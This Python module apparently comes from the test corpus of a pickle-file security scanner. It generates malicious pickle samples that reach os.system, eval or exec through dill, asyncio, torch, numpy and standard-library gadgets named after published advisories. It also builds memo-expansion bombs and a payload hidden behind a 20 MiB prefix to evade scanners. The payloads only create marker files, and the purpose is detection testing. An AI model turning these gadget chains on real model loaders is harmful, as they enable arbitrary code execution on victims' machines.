"""The corpus's remaining gaps: dill, asyncio, torch and stdlib gadgets, memo bombs.

scanner-threats.md §A.3-A.16, §E.41 and §F list techniques that the other
tables (``_gadgets.py``, ``_opcode_tricks.py``, ``_containers.py``) had no sample
for. Each malicious sample's only effect is to create its marker file, and only
under the real loader; names follow the advisory that reported the gadget.

Gadgets whose target does not exist in the installed libraries cannot be proven
and have no sample: ``torch._inductor.codecache.compile_file`` and
``torch.utils.bottleneck`` (both gone from torch 2.13), ``_aix_support._read_cmd_output``
(Python 3.12+), ``_pyrepl`` (3.13+), and ``torch._dynamo.guards.GuardBuilder.get``,
which in torch 2.13 takes a ``Source`` whose template is built from repr'd fields.

Benign: dill writes plain data (dicts, lists, tuples, sets, numbers, strings,
bytes) exactly as pickle does, so a dill-pickled plain object must scan clean.
dill's own helpers (``_load_type``, ``_create_array``, ``_create_function``) stay
denied: ``_load_type`` resolves ``CodeType`` and ``FunctionType``, and
``_create_array`` calls whatever callable it is given.
"""

from __future__ import annotations

import io
import os
import pickle
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.scanning_corpus._pickle_asm import Build, Call, Global, New, Raw, Seq, assemble, emit
from tests.scanning_corpus._sample import Payload, Recipe, Reduce, Sample, write_recipes

__all__ = [
    "MORE_BENIGN",
    "MORE_GADGETS",
    "write_more_benign_samples",
    "write_more_gadget_samples",
]

OS_SYSTEM = Global("posix", "system")
OS_MODULE = Global("pathlib", "os")
PROTO4 = pickle.PROTO + b"\x04"
#: Levels and fan-out of the memo-expansion bomb: 10**9 leaves when walked as a tree.
BOMB_LEVELS, BOMB_FANOUT = 9, 10


def _inner(p: Payload) -> bytes:
    """A complete malicious pickle, to be handed to a secondary loader."""
    return assemble(Call(OS_SYSTEM, p.shell), proto=4)


def _asm(build: Callable[[Payload], Any], proto: int = 4) -> Callable[[Payload], bytes]:
    return lambda p: assemble(build(p), proto)


def _method(name: str, obj: Any, *args: Any) -> Call:
    """``Class.method(obj, *args)`` through one dotted global ``"module:Class.method"``."""
    return Call(Global(*name.rsplit(":", 1)), obj, *args)


def _bytes_io(data: bytes) -> Call:
    return Call(Global("_io", "BytesIO"), data)


def _unix_subprocess(spelling: str) -> Callable[[Payload], bytes]:
    """``_UnixSubprocessTransport._start({}, cmd, shell=True, ...)``: Popen runs the
    command, then storing the process on a dict raises (the child still runs)."""
    return _asm(lambda p: _method(spelling, {}, p.shell, True, None, None, None, 0))


def _partial(func: Global, *args: Any, **kwargs: Any) -> Call:
    """``functools.partial(func, *args, **kwargs)()``, built by NEWOBJ_EX."""
    return Call(New(Global("functools", "partial"), (func, *args), kwargs))


# --- dill (§A.15, §A.16; modelscan issue #28) ------------------------------------------

#: A function that reaches os.system only by walking attributes from ``()``: its
#: bytecode names no module, no builtin, nothing a denylist could match.
_WALKER = """
def make(command):
    def touch():
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                cls.__init__.__globals__["system"](command)
                return
    return touch
"""


def _dill_function(p: Payload) -> bytes:
    import dill

    # Defining the closure runs nothing; dill then writes it by value through
    # dill._dill._create_function and _create_code. Its globals are a fresh dict, not
    # this module's, so that loading needs nothing but dill.
    namespace: dict[str, Any] = {"__name__": "bastion_payload"}
    exec(compile(_WALKER, "<payload>", "exec"), namespace)  # noqa: S102 - defines only
    data: bytes = dill.dumps(Reduce(namespace["make"](p.shell)))
    return data


# --- memo expansion (§E.41) ------------------------------------------------------------


def _bomb() -> bytes:
    """Opcodes pushing a list of BOMB_FANOUT copies of a list of ... (BOMB_LEVELS deep).

    The real unpickler shares the references, so loading is instant; anything that
    walks the result as a tree (repr, JSON, a scanner's expression tree) visits
    BOMB_FANOUT ** BOMB_LEVELS leaves.
    """
    out = emit(["lol"] * BOMB_FANOUT) + pickle.BINPUT + b"\x00"
    for level in range(1, BOMB_LEVELS + 1):
        gets = (pickle.BINGET + bytes([level - 1])) * BOMB_FANOUT
        out += pickle.POP + pickle.MARK + gets + pickle.LIST + pickle.BINPUT + bytes([level])
    return out


def _billion_laughs(_p: Payload) -> bytes:
    return PROTO4 + _bomb() + pickle.STOP


def _bomb_then_payload(p: Payload) -> bytes:
    return PROTO4 + _bomb() + pickle.POP + emit(Call(OS_SYSTEM, p.shell)) + pickle.STOP


def _large_prefix(p: Payload) -> bytes:
    # 20 MiB of benign bytes first: a scanner that reads only a prefix never sees the call.
    prefix = pickle.BINBYTES8 + (20 << 20).to_bytes(8, "little") + bytes(20 << 20)
    return PROTO4 + prefix + pickle.POP + emit(Call(OS_SYSTEM, p.shell)) + pickle.STOP


# --- modelscan issue #85: names smuggled through BUILD on a class ----------------------


def _build_attribute_names(p: Payload) -> bytes:
    # BUILD's slot state setattr()s "os" and "system" onto the allowed argparse.Namespace
    # class; dotted globals read them back as strings, memoized, and STACK_GLOBAL joins them.
    smuggle = Build(Global("argparse", "Namespace"), (None, {"a": "os", "b": "system"}))
    names = (
        emit(Global("argparse", "Namespace.a")) + pickle.MEMOIZE + pickle.POP  # memo 0
        + emit(Global("argparse", "Namespace.b")) + pickle.MEMOIZE + pickle.POP  # memo 1
        + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL
    )  # fmt: skip
    return assemble(Seq(smuggle, Call(Raw(names), p.shell)))


# --- library serializers ---------------------------------------------------------------


def _numpy_object_npy(p: Payload) -> bytes:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = Reduce(os.system, p.shell)
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


MORE_GADGETS = (
    # §A.15 / §A.16 / §F: dill
    Recipe(
        "modelscan_issue28_dill_create_function.pkl",
        "A.15 dill._dill._create_function(_create_code(...)): a function that reaches"
        " os.system by walking object.__subclasses__(), rebuilt and called (plain pickle.load)",
        _dill_function,
    ),
    Recipe(
        "dill_loads_nested_pickle.pkl",
        "A.16 dill.loads of an inner malicious pickle",
        _asm(lambda p: Call(Global("dill", "loads"), _inner(p))),
    ),
    # §F: asyncio (picklescan GHSA-q77w/f7qq/mjqp/jgw4, CVE-2025-10157)
    Recipe(
        "cve_2025_10157_asyncio_unix_events_subprocess.pkl",
        "F asyncio.unix_events._UnixSubprocessTransport._start runs a shell (submodule import,"
        " CVE-2025-10157); raises after the child is started",
        _unix_subprocess("asyncio.unix_events:_UnixSubprocessTransport._start"),
    ),
    Recipe(
        "asyncio_package_dotted_unix_subprocess.pkl",
        "F the same gadget spelled from the package: module 'asyncio', name"
        " 'unix_events._UnixSubprocessTransport._start' (wildcard inheritance for submodules)",
        _unix_subprocess("asyncio:unix_events._UnixSubprocessTransport._start"),
    ),
    Recipe(
        "cve_2025_10157_asyncio_subprocess.bin",
        "F the asyncio gadget as a plain pickle named .bin, run by torch.load",
        _unix_subprocess("asyncio.unix_events:_UnixSubprocessTransport._start"),
        "torch",
    ),
    # §A.7 torch and numpy gadgets
    Recipe(
        "ghsa_f4x7_torch_shapeenv_evaluate_guards_expression.pkl",
        "A.7 torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression is eval",
        _asm(
            lambda p: _method(
                "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
                {},
                p.python,
                [],
            )
        ),
    ),
    Recipe(
        "ghsa_jhph_torch_collect_env_run_and_read_all.pkl",
        "A.7 torch.utils.collect_env.run_and_read_all(run, cmd) is a shell",
        _asm(
            lambda p: Call(
                Global("torch.utils.collect_env", "run_and_read_all"),
                Global("torch.utils.collect_env", "run"),
                p.shell,
            )
        ),
    ),
    Recipe(
        "ghsa_h3qp_torch_datapipes_basichandlers.pkl",
        "A.7 torch datapipes decoder basichandlers('pickle', bytes) unpickles nested bytes",
        _asm(
            lambda p: Call(
                Global("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
                "pickle",
                _inner(p),
            )
        ),
    ),
    Recipe(
        "ghsa_vv6j_torch_config_module_load_config.pkl",
        "A.7 torch.utils._config_module.ConfigModule.load_config unpickles nested bytes"
        " (raises after)",
        _asm(
            lambda p: _method("torch.utils._config_module:ConfigModule.load_config", {}, _inner(p))
        ),
    ),
    Recipe(
        "torch_serialization_load_partial_bytesio.pkl",
        "A.16 functools.partial(torch.serialization.load, BytesIO(inner), weights_only=False)()",
        _asm(
            lambda p: _partial(
                Global("torch.serialization", "load"), _bytes_io(_inner(p)), weights_only=False
            )
        ),
    ),
    Recipe(
        "numpy_load_partial_allow_pickle.pkl",
        "A.16 functools.partial(numpy.load, allow_pickle=True)(BytesIO(object .npy))",
        _asm(
            lambda p: Call(
                New(
                    Global("functools", "partial"),
                    (Global("numpy", "load"),),
                    {"allow_pickle": True},
                ),
                _bytes_io(_numpy_object_npy(p)),
            )
        ),
    ),
    Recipe(
        "joblib_load_bytesio_nested.pkl",
        "A.16 joblib.load(BytesIO(inner malicious pickle))",
        _asm(lambda p: Call(Global("joblib", "load"), _bytes_io(_inner(p)))),
    ),
    Recipe(
        "ghsa_r8g5_numpy_f2py_getlincoef.pkl",
        "A.7 numpy.f2py.crackfortran.getlincoef evaluates its expression",
        _asm(lambda p: Call(Global("numpy.f2py.crackfortran", "getlincoef"), p.python, [])),
    ),
    # §A.3 / §A.5 / §A.6 / §A.9 stdlib gadgets
    Recipe(
        "ghsa_5hwf_osx_support_find_build_tool.pkl",
        "A.3 _osx_support._find_build_tool interpolates its argument into a shell command",
        _asm(lambda p: Call(Global("_osx_support", "_find_build_tool"), f"x; {p.shell}")),
    ),
    Recipe(
        "ghsa_9w88_cprofile_runctx.pkl",
        "A.5 cProfile.runctx",
        _asm(lambda p: Call(Global("cProfile", "runctx"), p.python, {}, {})),
    ),
    Recipe(
        "ghsa_6vqj_profile_profile_runctx.pkl",
        "A.5 profile.Profile.runctx on a fresh Profile",
        _asm(
            lambda p: _method(
                "profile:Profile.runctx", Call(Global("profile", "Profile")), p.python, {}, {}
            )
        ),
    ),
    Recipe(
        "ghsa_g344_trace_trace_runctx.pkl",
        "A.5 trace.Trace.runctx on a fresh Trace",
        _asm(
            lambda p: _method(
                "trace:Trace.runctx", Call(Global("trace", "Trace"), 0, 0), p.python, {}, {}
            )
        ),
    ),
    Recipe(
        "ghsa_fqq6_doctest_debug_script.pkl",
        "A.5 doctest.debug_script(src, pm=True) execs its source",
        _asm(lambda p: Call(Global("doctest", "debug_script"), p.python, True)),
    ),
    Recipe(
        "ghsa_m869_idlelib_executive_runcode.pkl",
        "A.5 idlelib.run.Executive.runcode on an Executive made by NEWOBJ and BUILD",
        _asm(
            lambda p: _method(
                "idlelib.run:Executive.runcode",
                Build(New(Global("idlelib.run", "Executive")), {"locals": {}}),
                p.python,
            )
        ),
    ),
    Recipe(
        "ghsa_9xph_idlelib_calltip_get_entity.pkl",
        "A.5 idlelib.calltip.get_entity evaluates its expression",
        _asm(lambda p: Call(Global("idlelib.calltip", "get_entity"), p.python)),
    ),
    Recipe(
        "ghsa_6w4w_idlelib_autocomplete_get_entity.pkl",
        "A.5 idlelib.autocomplete.AutoComplete.get_entity evaluates its argument",
        _asm(lambda p: _method("idlelib.autocomplete:AutoComplete.get_entity", None, p.python)),
    ),
    Recipe(
        "ghsa_p9w7_lib2to3_parsergenerator_make_label.pkl",
        "A.5 lib2to3 ParserGenerator.make_label evaluates a quoted label",
        _asm(
            lambda p: _method(
                "lib2to3.pgen2.pgen:ParserGenerator.make_label",
                None,
                Call(Global("lib2to3.pgen2.grammar", "Grammar")),
                f'""+str({p.python})',
            )
        ),
    ),
    Recipe(
        "typing_get_type_hints_string_annotation.pkl",
        "A.6 typing.get_type_hints on a class built by builtins.type with a string annotation",
        _asm(
            lambda p: Call(
                Global("typing", "get_type_hints"),
                Call(
                    Global("builtins", "type"),
                    "C",
                    (),
                    {"__module__": "builtins", "__annotations__": {"x": p.python}},
                ),
            )
        ),
    ),
    Recipe(
        "operator_itemgetter_vars_module.pkl",
        "A.9 operator.itemgetter('system') on vars(os), then call the result",
        _asm(
            lambda p: Call(
                Call(
                    Call(Global("operator", "itemgetter"), "system"),
                    Call(Global("builtins", "vars"), OS_MODULE),
                ),
                p.shell,
            )
        ),
    ),
    Recipe(
        "modelscan_issue85_build_attribute_names.pkl",
        "A.12 BUILD sets 'os' and 'system' as attributes of an allowed class; dotted globals"
        " read them back into STACK_GLOBAL (modelscan issue #85)",
        _build_attribute_names,
    ),
    # §F advisories
    Recipe(
        "ghsa_9726_urllib_request_urlretrieve.pkl",
        "F urllib.request.urlretrieve copies any URL to any path (picklescan GHSA-9726)",
        _asm(
            lambda p: Call(
                Global("urllib.request", "urlretrieve"), "file:///dev/null", str(p.marker)
            )
        ),
    ),
    Recipe(
        "ghsa_6ggj_xxsubinterpreters_run_string.pkl",
        "F _xxsubinterpreters.run_string runs source in a new interpreter (fickling GHSA-6ggj)",
        _asm(
            lambda p: Call(
                Global("_xxsubinterpreters", "run_string"),
                Call(Global("_xxsubinterpreters", "create")),
                p.python,
            )
        ),
    ),
    Recipe(
        "ghsa_xp4f_ensurepip_run_pip.pkl",
        "F ensurepip._run_pip formats its argument into the code of a child Python",
        _asm(lambda p: Call(Global("ensurepip", "_run_pip"), f"[]; {p.python}; sys.exit()")),
    ),
    # §E.41 resources
    Recipe(
        "memo_expansion_billion_laughs.pkl",
        f"E.41 memo-expansion bomb: {BOMB_LEVELS} levels of {BOMB_FANOUT} memo references;"
        " loads instantly, 10**9 leaves for anything that walks it (no payload runs)",
        _billion_laughs,
        loader_runs_payload=False,
    ),
    Recipe(
        "memo_expansion_then_payload.pkl",
        "E.41 the same bomb first, then os.system: a scanner that expands memo references"
        " exhausts itself before it reaches the call",
        _bomb_then_payload,
    ),
    Recipe(
        "payload_after_20mib_prefix.pkl",
        "E.41 os.system after a 20 MiB benign byte string (scanners that truncate miss it)",
        _large_prefix,
    ),
)


def write_more_gadget_samples(outdir: Path, markers: Path) -> list[Sample]:
    return write_recipes(MORE_GADGETS, outdir, markers)


# --- benign ----------------------------------------------------------------------------


def _dill_plain(path: Path) -> None:
    import dill

    data = {
        "weights": [0.5, -0.25, 1.0],
        "shape": (3,),
        "labels": {"cat", "dog"},
        "frozen": frozenset({1, 2}),
        "meta": {"name": "tiny", "epochs": 3, "done": True, "note": None, "raw": b"\x00\x01"},
    }
    path.write_bytes(dill.dumps(data))


@dataclass(frozen=True)
class MoreBenign:
    name: str
    technique: str
    loader: str
    write: Callable[[Path], object]


MORE_BENIGN = (
    MoreBenign(
        "dill_plain_data.pkl",
        "dill.dumps of plain data (dict, list, tuple, set, frozenset, bytes): no dill global",
        "pickle",
        _dill_plain,
    ),
)


def write_more_benign_samples(outdir: Path) -> list[Sample]:
    samples = []
    for item in MORE_BENIGN:
        path = outdir / item.name
        item.write(path)
        samples.append(Sample(item.name, path, item.technique, False, item.loader))
    return samples
